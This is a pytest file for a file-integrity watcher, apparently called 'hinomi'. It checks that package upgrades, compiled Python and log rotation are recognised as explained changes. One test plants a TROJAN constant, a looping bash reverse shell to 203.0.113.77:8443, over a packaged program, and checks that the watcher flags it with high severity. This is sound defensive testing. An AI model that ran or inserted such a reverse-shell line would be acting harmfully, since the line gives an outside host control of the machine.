"""A change seen live explains itself by what `baseline verify` would take, and by nothing less."""

from __future__ import annotations

import shutil
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from hinomi.evidence.sources.memory import memory_target
from hinomi.flow.watching.explaining import Explainer
from hinomi.watch.known import Facts

Start = Callable[..., Any]
Changes = dict[str, dict[str, Any]]
pytestmark = pytest.mark.skipif(
    any(shutil.which(name) is None for name in ("dpkg-deb", "dpkg", "gcc")), reason="dpkg or gcc is not installed"
)
OPT = "/opt/hinomi-replay"
LIBRARIES = f"{OPT}/lib"
DONE = "/opt/hinomi-done-"
POSTINST = """#!/bin/sh
set -e
/usr/bin/python3 -m compileall -q /opt/hinomi-replay/python
update-alternatives --install /opt/hinomi-pager hinomi-pager /opt/hinomi-replay/replay 10
"""
TROJAN = "#!/bin/sh\nwhile :; do bash -i >& /dev/tcp/203.0.113.77/8443 0>&1; sleep 60; done\n"


def package(folder: Path, version: int) -> Path:
    """Build a package with a program, a library, Python, a link, a configuration file and a maintainer's script."""
    root = folder / f"hinomi-replay-{version}"
    texts = {
        f"{OPT[1:]}/replay": f"#!/bin/sh\necho {version}\n",
        f"{OPT[1:]}/python/hinomi_replay.py": f"VERSION = {version}\n" + "#" * version,
        f"{OPT[1:]}/changelog": f"version {version}\n",
        "etc/hinomi-replay.conf": f"version = {version}\n",
        "DEBIAN/conffiles": "/etc/hinomi-replay.conf\n",
        "DEBIAN/postinst": POSTINST,
        "DEBIAN/control": f"Package: hinomi-replay\nVersion: {version}\nArchitecture: all\n"
        "Maintainer: Test <test@example.com>\nDescription: a test\n",
    }
    texts |= {f"{OPT[1:]}/share/{version}-{n}": f"{version} {n}\n" for n in range(50)}
    for name, text in texts.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    for name in (f"{OPT[1:]}/replay", "DEBIAN/postinst"):
        (root / name).chmod(0o755)
    library = root / LIBRARIES[1:] / "libhinomireplay.so.1"
    library.parent.mkdir(parents=True)
    source = folder / "library.c"
    source.write_text(f"int version(void) {{ return {version}; }}\n")
    words = ["gcc", "-shared", "-fPIC", "-Wl,-soname,libhinomireplay.so.1", "-o", str(library), str(source)]
    subprocess.run(words, check=True)
    library.with_suffix("").symlink_to(library.name)
    made = folder / f"hinomi-replay_{version}_all.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", root, made], check=True, capture_output=True)
    return made


@pytest.fixture
def watch(watching: Start, private_root: Any) -> Any:
    """Watch a small machine: nothing installed, few folders."""
    private_root.sh(
        "for place in /opt /var/lib/dpkg /var/log; do mount -t tmpfs -o mode=755 small $place; done\n"
        "mkdir /var/lib/dpkg/info /var/lib/dpkg/updates /var/lib/dpkg/alternatives; : > /var/lib/dpkg/status; echo 1 > /var/lib/dpkg/info/format\n"
        "find /etc -mindepth 1 -maxdepth 1 ! -name ld.so.conf ! -name dpkg ! -name passwd ! -name group -exec rm -rf {} +\n"
        "mkdir /etc/alternatives\n"
    )
    on = ("/opt", "/var/lib/dpkg", "/var/log")
    return watching(*on, "--no-processes", within=private_root.within, on=Path("/etc")).ready()


def compiled(changes: dict[str, dict[str, Any]], folder: str) -> dict[str, Any]:
    """The change of the one compiled file in a folder, whatever the interpreter's version calls it."""
    (found,) = [c for path, c in changes.items() if path.startswith(f"{folder}/__pycache__/") and path.endswith(".pyc")]
    return found


def told(watch: Any, last: str, holds: Callable[[Changes], bool] = bool) -> Changes:
    """What was told, by path the last change of each, once `last` was and `holds` is so: what a package manager at work
    writes is held back, and what changes often is looked at less often, so that neither comes in order."""
    found: Changes = {}

    def enough() -> bool:
        found.clear()
        found.update({c["path"]: c for c in watch.lines("change") if not c["path"].startswith(DONE)})
        return any(c["path"] == last for c in watch.lines("change")) and holds(found)

    watch.until(enough, f"{last} is told, and all before")
    return found


def installed(watch: Any, private_root: Any, *packages: Path, holds: Callable[[Changes], bool]) -> Changes:
    """Install packages, and return what was told of it and before, once `holds` is so."""
    last = f"{DONE}{time.monotonic_ns()}"
    if packages:
        private_root.run("dpkg", "-i", "--force-confnew", *packages)
    private_root.run("touch", last)
    return told(watch, last, holds)


def unexplained(changes: dict[str, dict[str, Any]]) -> list[str]:
    """What stands or stood there and has no reason; a name that came and went between two looks has no content to judge."""
    return sorted(path for path, c in changes.items() if not c["explained"] and c["what"] != "came-and-went")


def test_an_upgrade_explains_itself_and_a_trojan_in_it_does_not(watch: Any, private_root: Any, tmp_path: Path) -> None:
    one, two, three = (package(tmp_path, version) for version in (1, 2, 3))
    changes = installed(watch, private_root, one, holds=lambda told: "/opt/hinomi-pager" in told)
    assert compiled(changes, f"{OPT}/python")["why"] == "byte-code"
    assert changes["/opt/hinomi-pager"]["why"] == "link-to-package"
    gone = f"{OPT}/share/1-7"
    changes = installed(watch, private_root, two, holds=lambda told: told[gone]["what"] == "removed")
    assert unexplained(changes) == [], {path: changes[path] for path in unexplained(changes)}
    assert changes["/opt/hinomi-replay/replay"]["why"] == "package"
    assert changes["/opt/hinomi-replay/replay"]["explained"].startswith("hinomi-replay 2")
    told = [f for f in watch.lines("finding") if f["subject"]["type"] != "process"]  # those are the whole machine's
    worse = [(f["rule"]["id"], f["subject"], f["related"]) for f in told if f["severity"] not in ("low", "info")]
    assert worse == [], worse

    script = tmp_path / "trojan"
    script.write_text(TROJAN)
    private_root.sh(
        f"dpkg -i --force-confnew {three}\ncp {script} /opt/hinomi-pager-helper\n"
        f"chmod 755 /opt/hinomi-pager-helper\ncat {script} > /opt/hinomi-replay/replay\n"
    )
    gone = f"{OPT}/share/2-7"
    changes = installed(watch, private_root, holds=lambda told: told[gone]["what"] == "removed")
    assert unexplained(changes) == ["/opt/hinomi-pager-helper", "/opt/hinomi-replay/replay"]
    assert watch.finding("packaged-program-changed", "/opt/hinomi-replay/replay")["severity"] == "high"


def test_what_leans_on_the_unexplained_is_unexplained(watch: Any, private_root: Any) -> None:
    """A script that nobody vouches for is reported; what Python makes of it later is no better."""
    private_root.sh("mkdir /opt/stray; echo 'A = 1' > /opt/stray/stray.py")
    told(watch, "/opt/stray/stray.py")
    private_root.sh("/usr/bin/python3 -m compileall -q /opt/stray; touch -d 2020-01-01 /opt/stray/stray.py; sleep 1")
    private_root.run("touch", "/etc/hinomi-last")
    changes = told(watch, "/etc/hinomi-last", lambda told: any("__pycache__/" in path for path in told))
    for change in (changes["/opt/stray/stray.py"], compiled(changes, "/opt/stray")):
        assert change["explained"] is None, change


def test_rotated_and_growing_logs_explain_themselves(watch: Any, private_root: Any) -> None:
    if shutil.which("logrotate", path="/usr/sbin:/usr/bin") is None:
        pytest.skip("logrotate is not installed: apt-get install logrotate")
    log = "/var/log/app/app.log"
    private_root.sh(f"mkdir /var/log/app; for i in 1 2 3; do echo line $i >> {log}; done")
    told(watch, log)
    private_root.sh(f"echo more >> {log}; touch /etc/hinomi-grown")
    assert told(watch, "/etc/hinomi-grown", lambda told: told[log]["what"] == "changed")[log]["why"] == "log-grown"
    (configuration := watch.case.with_name("rotate")).write_text(f"{log} {{\nrotate 3\ncompress\ncreate\n}}\n")
    private_root.sh(
        f"for i in 1 2; do echo again $i >> {log}; sleep 1\n"
        f"PATH=$PATH:/usr/sbin logrotate -f -s /run/state {configuration}; sleep 1; done; touch /etc/hinomi-last\n"
    )
    changes = told(watch, "/etc/hinomi-last", lambda told: f"{log}.2.gz" in told)
    logs = {path: c["why"] for path, c in changes.items() if path.startswith(log)}
    assert logs[f"{log}.2.gz"] == "log-rotated" and None not in logs.values(), logs
    private_root.sh(f"gzip -dc {log}.1.gz | sed 1d | gzip > /run/x; cat /run/x > {log}.1.gz; touch /etc/hinomi-edited")
    edited = f"{log}.1.gz"
    before = changes[edited]["new_sha256"]
    changes = told(watch, "/etc/hinomi-edited", lambda told: told[edited]["new_sha256"] != before)
    assert changes[edited]["explained"] is None, "a line was taken out"


class Remembered:
    """States by path, as the last look left them."""

    def __init__(self, facts: dict[bytes, Facts]) -> None:
        self.facts = facts
        self.get, self.children, self.below = facts.get, lambda _: [], lambda _: []
        self.fact, self.remember = lambda _: None, lambda *_: None


def passing(known: dict[bytes, Facts], path: bytes) -> str | None:
    """What explains a name that came and went, where `known` is all that is known."""
    target = memory_target({"/etc/hostname": b"x"})
    looker = SimpleNamespace(target=target, view=target.view)
    reasons = Explainer(looker, Remembered(known)).explain({path: (None, None)}, {})  # type: ignore[arg-type]
    return reasons[path].why if path in reasons else None


LOG = Facts("file", 1, 2, 3, 0o100644, 0, 0, 1, 1, sha256=b"x")


def test_a_name_that_came_and_went_beside_its_log_is_a_rotation() -> None:
    """The compressed copy may be judged in another batch: the log itself, or the copy, answers for the name."""
    assert passing({b"/var/log/app.log": LOG}, b"/var/log/app.log.1") == "log-rotated"
    assert passing({b"/var/log/app.log.1.gz": LOG}, b"/var/log/app.log.1") == "log-rotated"
    assert passing({b"/var/log/app.log": LOG._replace(unexplained=1)}, b"/var/log/app.log.1") is None
    assert passing({}, b"/var/log/app.log.1") is None
    assert passing({b"/var/log/app.log": LOG}, b"/var/log/app.log") is None
    assert passing({b"/opt/app.log": LOG}, b"/opt/app.log.1") is None
